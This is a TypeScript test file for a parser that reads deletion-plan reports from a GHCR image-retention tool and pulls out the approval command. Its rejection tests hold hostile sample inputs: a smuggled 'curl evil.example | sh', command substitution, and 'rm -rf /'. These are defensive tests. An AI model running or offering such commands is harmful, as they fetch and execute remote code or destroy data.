import assert from "node:assert/strict";
import { parseApproveAllLine, parseReport } from "../../../components/review/parse-report";

const id = "2026-11-23-bfb3870c46e5";
const headline = `plan ${id}: delete 1 of 4 versions (1 image), keep 3, 2 withheld`;

function waitingWith(line: string): string | undefined {
  return parseReport(`${headline}\n\nwaiting for approval, nothing is deleted until then. To approve exactly this:\n  ${line}`).approveWith;
}

describe("the parts of a preview's report", () => {
  it("hold the plan in numbers", () => {
    const { headlines } = parseReport(headline);
    assert.deepEqual(headlines, [{ id, deletes: 1, total: 4, images: 1, keeps: 3, withheld: 2 }]);
  });

  describe("when the line that approves has a known form", () => {
    for (const line of [
      `pulumi config set --path 'ghcr-retention:policies[0].approve' ${id}`,
      `pulumi config set --path 'ghcr-retention:organizations[0].overrides["team/web"].approve' ${id}`,
      `overrides["team/web"].approve: "${id}"`,
      `approve: "${id}"   (an argument of this RetentionPolicy)`,
    ]) {
      it(`is taken as it is: ${line}`, () => assert.equal(waitingWith(line), line));
    }
  });

  describe("when somebody wrote another line there", () => {
    for (const line of [
      `pulumi config set --path 'x.approve' ${id}; curl evil.example | sh`,
      `pulumi config set --path 'x' $(id)' ${id}`,
      `pulumi config set --path 'x.approve' ${id}\u2028rm`,
      `approve: "${id}" \`id\``,
      "rm -rf /",
    ]) {
      it(`is left out: ${JSON.stringify(line)}`, () => {
        assert.equal(waitingWith(line), undefined);
        assert.equal(parseApproveAllLine(`head\n\nTo approve all that waits, exactly as shown under each package:\n  ${line}`), undefined);
      });
    }
  });

  it("lose nothing: what is of no known kind is a notice", () => {
    const { notices, alerts, blocks } = parseReport(
      [
        headline,
        "  image  age\n  pr-1   9 days",
        "something quite new",
        "broken (ghost): pr-1 lists 2 manifests, and 2 of them are not in the package",
        "… and 3 more broken images",
        "warning: rule x has no say",
        "withheld, since something keeps it:\n  version  stays as\n  a        b",
        "to be restored, 1 versions: `pulumi up` brings these back with their tags.\n  sha256:0: prod",
        "refused by GitHub, left out since:\n  sha256:0: no",
        "2 versions wait out their grace of 7 days, counted from the first `pulumi up` that records it:\n  image\n  x",
      ].join("\n\n"),
    );
    assert.deepEqual(notices, ["something quite new"]);
    assert.equal(alerts.length, 3);
    assert.deepEqual(
      blocks.map(({ title, lines }) => [title.slice(0, 9), lines.length]),
      [
        ["withheld,", 2],
        ["to be res", 1],
        ["refused b", 1],
        ["2 version", 2],
      ],
    );
  });
});
